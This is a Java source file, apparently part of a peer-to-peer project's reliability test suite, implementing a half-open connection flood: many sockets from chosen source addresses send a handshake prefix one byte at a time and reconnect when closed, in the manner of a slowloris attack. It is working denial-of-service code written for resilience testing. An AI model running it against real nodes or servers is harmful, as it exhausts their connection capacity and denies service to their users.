package dev.halley.reliability.attacks;

import dev.halley.p2p.identity.Endpoint;
import dev.halley.p2p.identity.IpAddress;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;
import java.util.function.IntFunction;

/// Connections that never finish their handshake: each says one byte a second of a key. Those that
/// the other side closes are opened again with the next byte. For one thread.
final class HalfOpenFlood implements AutoCloseable {
  /// A message that carries a key begins like this; any 32 bytes may follow.
  private static final byte[] BEGINNING = {0x22, 0x0a, 0x20};

  private final Endpoint target;
  private final IntFunction<IpAddress> sources;
  private final List<Drip> drips = new ArrayList<>();
  private long opened;

  /// @param sources where the connection of each number comes from
  HalfOpenFlood(Endpoint target, IntFunction<IpAddress> sources) {
    this.target = target;
    this.sources = sources;
  }

  private static final class Drip {
    private final SocketChannel channel;
    private int said;

    Drip(SocketChannel channel) {
      this.channel = channel;
    }

    /// Says the next byte; false when the other side has closed.
    boolean say() {
      byte next = said < BEGINNING.length ? BEGINNING[said] : (byte) said;
      said++;
      try {
        var answer = ByteBuffer.allocate(64);
        return channel.write(ByteBuffer.wrap(new byte[] {next})) >= 0 && channel.read(answer) >= 0;
      } catch (IOException _) {
        return false;
      }
    }
  }

  /// Opens more, until there are `count`.
  HalfOpenFlood raise(int count) throws IOException {
    while (drips.size() < count) {
      drips.add(open(drips.size()));
    }
    return this;
  }

  private Drip open(int number) throws IOException {
    var channel = SocketChannel.open();
    channel.bind(new InetSocketAddress(sources.apply(number).toInetAddress(), 0));
    channel.connect(target.toSocketAddress());
    channel.configureBlocking(false);
    opened++;
    return new Drip(channel);
  }

  /// One byte from everybody.
  void drip() throws IOException {
    for (int i = 0; i < drips.size(); i++) {
      Drip drip = drips.get(i);
      if (!drip.say()) {
        drip.channel.close();
        drips.set(i, open(i));
      }
    }
  }

  /// Connections made so far, those opened again included.
  long opened() {
    return opened;
  }

  @Override
  public void close() throws IOException {
    for (Drip drip : drips) {
      drip.channel.close();
    }
  }
}
